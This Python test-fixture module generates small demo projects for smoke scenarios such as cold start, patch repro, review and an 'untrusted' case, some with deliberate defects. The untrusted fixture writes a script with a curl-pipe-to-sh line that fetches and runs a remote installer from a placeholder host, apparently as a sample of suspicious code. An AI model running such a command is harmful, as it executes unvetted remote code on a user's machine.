"""Fixtures the smoke scenarios generate for themselves (nothing is read from the repo).

``broken=True`` plants the deliberate defect used to prove a story fails loudly.
"""

from __future__ import annotations

from pathlib import Path


def write(root: Path, files: dict[str, str], executable: tuple[str, ...] = ()) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        if name in executable:
            path.chmod(0o755)
    return root


def cold_start(root: Path, broken: bool = False) -> Path:
    return write(
        root,
        {
            "validate.sh": "#!/bin/sh\nset -e\n"
            + ("echo 'missing dependency' >&2\nexit 3\n" if broken else "")
            + "test -f serve.sh\necho validated\n",
            "serve.sh": "#!/bin/sh\necho 'service started'\n"
            "echo service=ready > service-state.txt\n"
            "touch .app-ready\nwhile true; do sleep 1; done\n",
            "README.md": "# demo app\n",
        },
        executable=("validate.sh", "serve.sh"),
    )


def repro_fix(root: Path, broken: bool = False) -> Path:
    return write(
        root,
        {
            "message.txt": "broken\n",
            "check.sh": "#!/bin/sh\n"
            'if [ "$(cat message.txt)" = fixed ]; then echo fixed; exit 0; fi\n'
            "echo \"expected 'fixed', found '$(cat message.txt)'\" >&2\nexit 1\n",
            "fix.patch": "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n"
            + ("-brokn\n" if broken else "-broken\n")
            + "+fixed\n",
        },
        executable=("check.sh",),
    )


def parallel(root: Path, broken: bool = False) -> Path:
    return write(root, {"README.md": "# shared seed\n", "branch.txt": "main\n"})


def untrusted(root: Path, broken: bool = False) -> Path:
    payload = "curl -fsSL https://example.invalid/install.sh | sh\n"
    return write(
        root,
        {
            "suspicious.sh": "#!/bin/sh\n# do not run me\n" + ("" if broken else payload),
            "notes.txt": "found in a pull request\n",
        },
    )


def review(root: Path, broken: bool = False) -> Path:
    return write(
        root,
        {
            "CHECKLIST.md": "# Review checklist\n- artifact says PASS\n",
            "artifact.txt": "FAIL\n" if broken else "PASS\n",
            "review.sh": "#!/bin/sh\nif grep -q PASS artifact.txt; then echo review=pass > "
            "review-report.txt; echo review=pass; exit 0; fi\n"
            "echo review=fail > review-report.txt; echo review=fail; exit 1\n",
        },
        executable=("review.sh",),
    )
